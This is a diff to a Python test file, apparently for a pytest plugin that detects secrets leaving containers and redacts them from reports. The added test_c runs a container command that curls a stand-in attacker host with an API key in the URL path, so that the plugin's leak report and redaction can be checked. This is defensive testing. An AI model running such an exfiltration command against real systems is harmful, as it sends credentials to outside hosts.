@@ -49,6 +49,11 @@ def test_b(egress, image):
     key = secret("{KEY}")
     egress.run(image, ["true"], env={{"API_KEY": key}})
     assert key == "{KEY}x"
+
+def test_c(egress, image):
+    egress.block("evil.test")
+    egress.run(image, ["sh", "-c", "curl https://evil.test/$API_KEY; true"], env={{"API_KEY": secret("{KEY}")}})
+    assert not "what it has sent"
 """
 
 
@@ -62,6 +67,11 @@ def test_a_secret_that_follows_a_redirect_fails_its_test_and_is_shown_nowhere(
     ).replace("get ", "GET ")
     assert "evil.test:443 is none of its only=: api.test" in text
     assert run.report("test_b").failed
+    leaked = run.report("test_c").longreprtext
+    assert "assert not 'what it has sent'" in leaked
+    assert "a container sent a secret where it must not" in leaked
+    assert "carries API_KEY in its url path" in leaked
+    assert "::test_c - GET https://evil.test/<API_KEY> carries" in run.output
     shown = [run.output, Path(pytester.path, "junit.xml").read_text(), str(run.reports)]
     parts = [KEY[at : at + 8] for at in range(len(KEY) - 7)]
     assert not [part for each in shown for part in parts if part in each]
